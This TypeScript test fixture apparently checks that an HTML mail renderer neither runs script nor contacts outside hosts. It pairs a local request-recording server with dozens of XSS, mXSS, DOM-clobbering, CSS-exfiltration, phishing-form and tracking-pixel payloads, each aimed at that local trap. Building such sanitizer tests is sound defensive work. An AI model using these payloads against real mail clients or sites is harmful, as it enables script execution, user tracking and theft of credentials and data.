// Mails that want to run something, to call somebody, or to lead their reader away; and the place that would hear of it.

import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { picture } from './world';

export type Trap = { url: string; heard: { path: string; headers: IncomingHttpHeaders }[]; close: () => void };

/** A host outside that writes down every request. */
export async function trap(): Promise<Trap> {
  const heard: Trap['heard'] = [];
  const server = createServer((request, response) => {
    heard.push({ path: request.url ?? '', headers: request.headers });
    response.writeHead(200, { 'content-type': 'image/png', 'access-control-allow-origin': '*' }).end(picture(2, 2));
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, heard, close: () => server.close() };
}

/** By what each tries. Each ends with a word to wait for. */
export function hostile(out: string): Record<string, string> {
  const js = "console.log('OWNED');try{parent.owned('parent')}catch(e){};try{top.owned('top')}catch(e){};owned('self')";
  const attr = js.replaceAll('"', '&quot;');
  const url = `javascript:${encodeURIComponent(js)}`;
  const b64 = Buffer.from(`<script>${js}</script>`).toString('base64');
  const all: Record<string, string> = {
    script: `<script>${js}</script>`,
    'script src': `<script src="${out}/s.js"></script><script type=module src="${out}/m.js"></script>`,
    'script in svg': `<svg><script>${js}</script><script href="${out}/svg.js"/></svg>`,
    'script broken': `<scr<script>ipt>${js}</scr</script>ipt><script/x>${js}</script/x>`,
    'script in style': `<style><!--</style><script>${js}</script>--></style>`,
    'script in title': `<title><a title="</title><script>${js}</script>">`,
    'script in noscript': `<noscript><p title="</noscript><img src=x onerror=${attr}>"></noscript>`,
    'script in template': `<template><script>${js}</script></template><div><template shadowrootmode=open><img src=x onerror="${attr}"></template></div>`,
    'script in math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attr}&gt;"></table></math>`,
    'script in comment': `<!--><img src=x onerror="${attr}">--><!--[if gte IE 4]><script>${js}</script><![endif]-->`,
    onerror: `<img src=x onerror="${attr}"><image src=x onerror="${attr}"><video onerror="${attr}"><source onerror="${attr}"></video>`,
    onload: `<body onload="${attr}"><svg onload="${attr}"><style onload="${attr}"></style><iframe onload="${attr}"></iframe>`,
    'on of all kinds': `<details open ontoggle="${attr}">CLICK ME</details><marquee onstart="${attr}">m</marquee><input autofocus onfocus="${attr}"><div onpointerover="${attr}" onclick="${attr}">CLICK ME</div>`,
    'svg animate': `<svg><a><animate attributeName=href values="${url}"/><text x=20 y=20>CLICK ME</text></a><set attributeName=onmouseover to="${attr}"/></svg>`,
    'svg use': `<svg><use href="${out}/u.svg#x"/><image href="${out}/i.png"/><image xlink:href="${out}/x.png"/><feImage href="${out}/f.png"/></svg>`,
    'svg foreign': `<svg><foreignObject><iframe srcdoc="<script>${attr}</script>"></iframe></foreignObject></svg>`,
    'javascript link': `<a href="${url}">CLICK ME</a><a href=" java&#10;script:${encodeURIComponent(js)}">CLICK ME</a><a href="&#106;avascript:${encodeURIComponent(js)}">CLICK ME</a>`,
    'other links': `<a href="data:text/html;base64,${b64}">CLICK ME</a><a href="vbscript:msgbox(1)">CLICK ME</a><a href="blob:${out}/x">CLICK ME</a><a href="file:///etc/passwd">CLICK ME</a><a href="/api/v1/session">CLICK ME</a>`,
    'link that pings': `<a href="#x" ping="${out}/ping" target=_top>CLICK ME</a><a href="?x" target=_parent>CLICK ME</a>`,
    'mailto link': `<a href="mailto:a@example.jp?body=x" onclick="${attr}">write</a>`,
    'meta refresh': `<meta http-equiv=refresh content="0;url=${out}/refresh"><meta http-equiv=refresh content="0;url=${url}">`,
    'meta policy': `<meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=set-cookie content="a=b"><meta name=referrer content=unsafe-url><img src="${out}/p.png">`,
    base: `<base href="${out}/"><img src="relative.png"><a href="x">r</a><base target=_top>`,
    'link relations': [
      'stylesheet',
      'preload',
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'prerender',
      'modulepreload',
      'icon',
      'manifest',
      'import',
    ]
      .map((rel) => `<link rel=${rel} as=image href="${out}/${rel}">`)
      .join(''),
    'tracking pixel': `<img src="${out}/t.gif" width=1 height=1><img src="//${out.slice(7)}/t2.gif"><img src="HTTP://${out.slice(7)}/t3.gif">`,
    srcset: `<img srcset="${out}/1x.png 1x, ${out}/2x.png 2x"><picture><source srcset="${out}/s.png"><img src="${out}/d.png"></picture><img src=x data-src="${out}/l.png" lowsrc="${out}/low.png" dynsrc="${out}/dyn.png" longdesc="${out}/long">`,
    'css url': `<div style="background:url(${out}/bg.png)">x</div><div style="list-style-image:url('${out}/li.png')">x</div><p style="background-image:u\\72l(${out}/esc.png)">x</p><div style="border-image:url(${out}/b.png)">x</div><div style="content:url(${out}/c.png);cursor:url(${out}/cur.png),auto">x</div>`,
    'css import': `<style>@import "${out}/i.css"; @import url(${out}/j.css); @font-face{font-family:x;src:url(${out}/f.woff)} p{font-family:x;background:url(${out}/p.png)}</style><p>x</p>`,
    'css image-set': `<div style="background-image:image-set('${out}/a.png' 1x);mask:url(${out}/m.svg);filter:url(${out}/f.svg#a);clip-path:url(${out}/c.svg#a)">x</div><style>div{background:-webkit-image-set(url(${out}/w.png) 1x)} :root{--x:url(${out}/v.png)} div{background:var(--x)}</style>`,
    'css that reads': `<style>input[value^=a]{background:url(${out}/a)} body:has(a){background:url(${out}/has)}</style><input value=abc>`,
    'css over all': `<div style="position:fixed;inset:0;z-index:99999;background:red"><a href="${url}">CLICK ME</a></div>`,
    'old attributes': `<body background="${out}/b.png"><table background="${out}/t.png"><tr><td background="${out}/td.png">x</table><input type=image src="${out}/in.png"><bgsound src="${out}/s.wav">`,
    form: `<form action="${out}/form" method=post><input name=password type=password><button>CLICK ME</button></form><form><button formaction="${out}/fa">CLICK ME</button><input type=submit formaction="${url}" value="CLICK ME"></form><isindex action="${url}">`,
    iframe: `<iframe src="${out}/frame"></iframe><iframe src="${url}"></iframe><iframe srcdoc="<script>parent.parent.owned('srcdoc')</script>"></iframe><frameset><frame src="${out}/f"></frameset>`,
    object: `<object data="${out}/o.swf"></object><embed src="${out}/e.swf"><applet code="${out}/a.class"></applet><object data="data:text/html;base64,${b64}"></object><param name=src value="${out}/p">`,
    media: `<video src="${out}/v.mp4" poster="${out}/poster.png" autoplay></video><audio src="${out}/a.mp3" autoplay></audio><video><track src="${out}/t.vtt"></video>`,
    'portal and fenced': `<portal src="${out}/portal"></portal><fencedframe src="${out}/ff"></fencedframe><webview src="${out}/w"></webview>`,
    dialog: `<dialog open>CLICK ME</dialog><button popovertarget=p>CLICK ME</button><div popover id=p>p</div>`,
    'names of the page': `<form name=document><input name=cookie></form><img name=owned><a id=location href="${out}">x</a>`,
    'entities and NUL': `<img src=x one\u0000rror="${attr}"><img src=x on&#101;rror="${attr}"><a href="java\u0000script:${encodeURIComponent(js)}">CLICK ME</a>`,
    'deep nesting': `${'<div>'.repeat(3_000)}<img src=x onerror="${attr}">${'</div>'.repeat(3_000)}`,
    'not closed': `<img src="${out}/open.png" alt="x><script>${js}</script>`,
    'prefetch hints': `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${out}/spec"]}]}</script><a href="${out}/hover" rel="prefetch">h</a>`,
    'xml and xsl': `<?xml-stylesheet href="${out}/x.xsl"?><xml id=x><a>${js}</a></xml><svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${url}"><text y=20>CLICK ME</text></a></svg>`,
  };
  return Object.fromEntries(Object.entries(all).map(([kind, html]) => [kind, `<p>BEGIN</p>${html}<p>END</p>`]));
}
